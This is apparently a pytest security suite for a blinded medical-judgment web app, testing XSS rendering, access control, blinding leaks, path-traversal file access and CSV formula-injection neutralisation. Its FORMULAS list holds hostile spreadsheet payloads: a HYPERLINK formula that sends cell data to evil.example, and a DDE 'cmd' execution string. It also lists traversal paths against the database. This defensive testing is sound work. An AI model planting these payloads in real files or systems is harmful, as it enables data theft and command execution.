"""Proof that nothing leaks and nothing injects: a whole study judged in Chromium with every
response recorded; 35 script-injection payloads in every kind of text; every event endpoint
called directly over HTTP without login, with the wrong role, and on another physician's
pair; no database or export reachable as a file."""

from __future__ import annotations

import json
import os
import uuid

import httpx
import pytest

from app import storage
from app.study_files import StudyItem
from evaluation.contract import Choice
from medalign.testing.browser import browser_page, chromium_path, log_in, shown_text
from tests.app.conftest import PASSWORD
from tests.app.xss_payloads import PAYLOADS

pytestmark = pytest.mark.slow
SYSTEMS = ("sysalpha_sft", "sysbeta_dpo")


def record_figure(name: str, value) -> None:
    """bench/security.py sets MEDALIGN_FIGURES to collect these for bench/RESULTS.md."""
    path = os.environ.get("MEDALIGN_FIGURES")
    if path:
        with open(path, "a") as handle:
            handle.write(json.dumps({"name": name, "value": value}) + "\n")


@pytest.fixture
def hostile_study(engine):
    """7 items carrying the 35 payloads in questions, contexts and answers; all of them in the guidelines."""
    assert len(PAYLOADS) >= 30
    items = []
    for k in range(len(PAYLOADS) // 5):
        p = PAYLOADS[5 * k:5 * k + 5]
        items.append(StudyItem(f"x{k}", p[0], p[1] + "\n" + p[2], None, {SYSTEMS[0]: p[3], SYSTEMS[1]: p[4]}))
    with storage.transaction(engine) as session:
        return storage.create_study(session, name="hostile", systems=SYSTEMS, items=items, guidelines="\n".join(PAYLOADS))


@pytest.mark.browser
def test_payloads_show_as_text_and_never_run_and_nothing_leaks(server, recorder, engine, hostile_study, make_user):
    chromium_path()
    make_user("dr_x")
    shown_texts: set[str] = set()
    with browser_page() as page:
        dialogs = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.add_init_script("window.__xss = undefined;")
        log_in(page, server, "dr_x", PASSWORD)
        page.wait_for_selector("text=0 of 7 judged", timeout=30_000)
        page.get_by_text("Guidelines", exact=True).click()
        page.get_by_text("Abstract context", exact=True).click()
        shown_texts.add(page.locator("#guidelines").inner_text())  # rendered Markdown (issue 14): HTML escaped to text
        for n in range(1, 8):
            for field in ("answer_a", "answer_b", "question", "context"):  # plain-text panes (issue 22)
                shown_texts.add(shown_text(page, field))
            page.locator("#rationale textarea").fill(PAYLOADS[n])  # a rationale carrying a payload
            page.locator(f"#choice input[value='{Choice.tie.value}']").click()
            page.locator("#submit").click()
            page.wait_for_selector(f"text={n} of 7 judged" if n < 7 else "text=All done", timeout=30_000)
        page.locator("#revise_done").click()  # the stored rationale comes back into the page
        page.wait_for_selector("text=Revising", timeout=30_000)
        shown_texts.add(page.locator("#rationale textarea").input_value())
        page.wait_for_timeout(500)
        page_flag = page.evaluate("window.__xss")
        assert page_flag is None
        assert dialogs == []
        # /config and the API info, fetched with the physician's own session
        extra = [page.request.get(f"{server}{path}").text() for path in ("/config", "/gradio_api/info")]
    everything = "\n".join(shown_texts)
    missing = [p for p in PAYLOADS if p not in everything]
    record_figure("xss", {"payloads_tried": len(PAYLOADS), "places": ["question", "context", "answer", "guidelines", "rationale"],
                          "executed": len(dialogs) + (page_flag is not None), "shown_verbatim": len(PAYLOADS) - len(missing)})
    assert not missing, f"payloads not shown verbatim: {missing[:3]}"
    with storage.transaction(engine) as session:
        rows = storage.export_judgments(session, hostile_study)
    assert sorted(r["rationale"] for r in rows) == sorted(PAYLOADS[1:8])
    texts = recorder[0].texts() + extra
    bodies = "\n".join(texts).lower()
    assert "/queue/data" in bodies
    leaks = [leak for leak in (*SYSTEMS, "left_system", "system_1", "system_2", "preferred_system", "assignment_id", "test.db")
             if leak in bodies]
    record_figure("blinding", {"responses_recorded": len(texts), "bytes": len(bodies), "judgments": 7, "leaks_found": leaks})
    assert not leaks, leaks


def _login(base: str, name: str) -> httpx.Client:
    client = httpx.Client(base_url=base, timeout=30)
    assert client.post("/login", data={"username": name, "password": PASSWORD}).status_code == 200
    return client


def call_event(client: httpx.Client, fn_index: int, data: list) -> dict:
    """One event through Gradio's HTTP queue, as a browser sends it; returns the final message."""
    session_hash = uuid.uuid4().hex[:10]
    join = client.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "session_hash": session_hash,
                                                       "event_data": None, "trigger_id": None})
    if join.status_code != 200:
        return {"refused": join.status_code, "body": join.text}
    with client.stream("GET", f"/gradio_api/queue/data?session_hash={session_hash}") as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                message = json.loads(line[5:])
                if message.get("msg") == "process_completed":
                    return message
    return {"msg": "stream ended"}


def test_every_endpoint_refuses_without_login_and_wrong_role(server, engine, make_study, make_user):
    study = make_study(n=3)
    make_user("dr_a")
    make_user("dr_b")
    make_user("boss", "researcher")
    researcher = _login(server, "boss")
    config = researcher.get("/config").json()
    dependencies = config["dependencies"]
    assert len(dependencies) >= 6
    anonymous = httpx.Client(base_url=server, timeout=30)
    refused = 0
    for dependency in dependencies:
        result = call_event(anonymous, dependency["id"], [None] * len(dependency["inputs"]))
        assert result.get("refused") in (401, 403), (dependency.get("api_name"), result)
        refused += 1
    assert refused == len(dependencies)
    errors = []
    refused_or_empty = 0

    # a physician calling the researcher functions gets an error or nothing, and no data
    physician = _login(server, "dr_a")
    by_elem = {c["id"]: c.get("props", {}).get("elem_id") for c in config["components"]}
    researcher_deps = [d for d in dependencies if {"research_summary", "research_picker"} & {by_elem.get(o) for o in d["outputs"]}]
    assert len(researcher_deps) >= 3  # the view on change and on refresh, and the study list on load
    for dependency in researcher_deps:
        result = call_event(physician, dependency["id"], [study.name] * len(dependency["inputs"]))
        errors.append(json.dumps(result))
        data = json.dumps(result.get("output", {}).get("data", []))
        was_refused = result.get("success") is False and "researcher" in json.dumps(result)
        empty = result.get("success") is True and study.name not in data and "dr_a" not in data
        assert was_refused or empty, (dependency["id"], result)
        refused_or_empty += 1

    # a physician submitting on another physician's pair is refused and nothing is stored
    with storage.transaction(engine) as session:
        other = storage.next_assignment(session, study, storage.get_user(session, "dr_b"))
    submit = next(d for d in dependencies if d.get("api_name") == "submit")
    result = call_event(physician, submit["id"], [None, other.token, Choice.a.value, False, False, ""])
    errors.append(json.dumps(result))
    assert result.get("success") is False and "not your assignment" in json.dumps(result)
    with storage.transaction(engine) as session:
        assert storage.export_judgments(session, study) == []
    assert not any(name in error for error in errors for name in ('"sft"', '"dpo"', "sft vs", "dpo answer"))
    record_figure("access", {"endpoints_in_config": len(dependencies), "refused_without_login": refused,
                             "researcher_endpoints_tried_as_physician": len(researcher_deps),
                             "refused_or_no_data_as_physician": refused_or_empty,
                             "other_physicians_pair_refused": '"success": false' in errors[-1]})


def test_database_and_exports_are_not_static_files(server, engine, make_study, make_user):
    study = make_study(n=2)
    make_user("dr_a")
    physician = _login(server, "dr_a")
    database = engine.url.database
    paths = 0
    for path in (f"/gradio_api/file={database}", f"/file={database}", f"/gradio_api/file/{database}",
                 "/gradio_api/file=medalign.db", "/static/../medalign.db", f"/export/{study.name}/judgments.csv",
                 f"/export/{study.name}/dpo_pairs.jsonl"):
        response = physician.get(path)
        assert response.status_code in (400, 401, 403, 404, 405), (path, response.status_code)
        assert "SQLite format" not in response.text and "preferred_system" not in response.text
        paths += 1
    record_figure("static", {"paths_tried": paths, "served": 0})


# --- spreadsheet formula injection (issue 13) ------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", 'a,=1+1;=2+2"', "- a bullet list answer"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def judged_hostile_study(engine, tmp_path):
    """A real study whose question, answers and a physician's rationales start like formulas."""
    from tests.app.conftest import write_answers

    path = write_answers(tmp_path / "formulas.jsonl", len(FORMULAS))
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    for row, formula in zip(rows, FORMULAS, strict=True):
        row["question"], row["outputs"]["sft"] = formula, formula
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    from app.study_files import read_study_items

    with storage.transaction(engine) as session:
        study = storage.create_study(session, name="formulas", systems=("sft", "dpo"),
                                     items=read_study_items(path, ("sft", "dpo")))
        user = storage.add_user(session, "dr_f", "physician", PASSWORD)
        for formula in FORMULAS:
            assignment = storage.next_assignment(session, study, user)
            storage.submit_judgment(session, user, assignment.id, choice="tie", rationale=formula)
        return study.name, storage.export_judgments(session, study)


def neutralised_cells(csv_text: str, rows: list[dict]) -> int:
    """Check every CSV cell against the stored value (a leading ' exactly where the value would
    start a formula, the text otherwise unchanged); returns how many cells were neutralised."""
    import csv
    import io

    parsed = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(parsed) == len(rows)
    count = 0
    for cells, row in zip(parsed, sorted(rows, key=lambda r: r["sequence"]), strict=True):
        for column, cell in cells.items():
            value = row[column]
            expected = "" if value is None else str(value)
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                expected, count = "'" + value, count + 1
            assert cell == expected, (column, cell, value)
            assert not cell.startswith(FORMULA_STARTS)
    return count


def test_csv_exports_neutralise_formulas_and_other_formats_keep_exact_text(engine, tmp_path, monkeypatch):
    import pandas as pd
    from typer.testing import CliRunner

    from app.exports import neutralise_formula, render
    from medalign.cli import app as cli

    assert neutralise_formula(-3) == -3 and neutralise_formula("3 - 1") == "3 - 1" and neutralise_formula(None) is None
    name, rows = judged_hostile_study(engine, tmp_path)
    rows = sorted(rows, key=lambda r: r["sequence"])
    neutralised = neutralised_cells(render(rows, "csv").decode(), rows)
    starting = sum(f.startswith(FORMULA_STARTS) for f in FORMULAS)  # 'a,=1+1' is one quoted cell
    assert neutralised == 3 * starting  # the question, an answer and the rationale of each
    monkeypatch.setenv("MEDALIGN_DATABASE_URL", str(engine.url))
    for fmt in ("csv", "jsonl", "parquet"):
        result = CliRunner().invoke(cli, ["export", "--study", name, "--format", fmt, "--out", str(tmp_path / f"j.{fmt}")])
        assert result.exit_code == 0, result.output
    assert neutralised_cells((tmp_path / "j.csv").read_bytes().decode(), rows) == neutralised
    exact = [json.loads(line) for line in (tmp_path / "j.jsonl").read_text().splitlines()]
    assert sorted(exact, key=lambda r: r["sequence"]) == rows
    parquet = pd.read_parquet(tmp_path / "j.parquet").sort_values("sequence")
    for column in ("question", "answer_a", "answer_b", "rationale"):
        assert list(parquet[column]) == [r[column] for r in rows]
    record_figure("formula_injection", {"formulas_planted": len(FORMULAS), "places": ["question", "answer", "rationale"],
                                        "csv_cells_neutralised": neutralised, "formula_cells_left_in_csv": 0,
                                        "jsonl_parquet_exact": True})


def test_csv_download_neutralises_formulas(server, engine, tmp_path):
    name, rows = judged_hostile_study(engine, tmp_path)
    with storage.transaction(engine) as session:
        storage.add_user(session, "boss", "researcher", PASSWORD)
    researcher = _login(server, "boss")
    response = researcher.get(f"/export/{name}/judgments.csv")
    assert response.status_code == 200
    assert neutralised_cells(response.text, rows) == 3 * sum(f.startswith(FORMULA_STARTS) for f in FORMULAS)
    exact = [json.loads(line) for line in researcher.get(f"/export/{name}/judgments.jsonl").text.splitlines()]
    assert sorted(exact, key=lambda r: r["sequence"]) == sorted(rows, key=lambda r: r["sequence"])
